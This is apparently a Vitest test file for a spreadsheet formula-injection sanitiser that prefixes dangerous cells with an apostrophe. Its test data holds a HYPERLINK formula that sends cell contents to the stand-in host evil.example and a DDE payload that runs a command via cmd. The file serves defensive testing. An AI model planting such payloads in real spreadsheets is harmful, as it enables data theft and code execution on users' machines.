import { describe, expect, it } from "vitest";
import { neutraliseCell } from "./spreadsheet.ts";

describe("formula neutralisation", () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"x")', `'=HYPERLINK("http://evil.example/?"&A1,"x")`],
    ["+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
    ["-2+3", "'-2+3"],
    ["@SUM(1,2)", "'@SUM(1,2)"],
    ["\t=1", "'\t=1"],
    ["\r=1", "'\r=1"],
  ])("prefixes %j with an apostrophe", (cell, expected) => {
    expect(neutraliseCell(cell)).toBe(expected);
  });

  it.each([["1234-ABC"], ["Camión"], [""], ["-12.5"], ["+34"], ["a=b"]])(
    "leaves plain text %j as it is",
    (cell) => {
      expect(neutraliseCell(cell)).toBe(cell);
    },
  );

  it("keeps numbers as numbers, negative ones included", () => {
    expect(neutraliseCell(-5)).toBe(-5);
    expect(neutraliseCell(0)).toBe(0);
  });
});
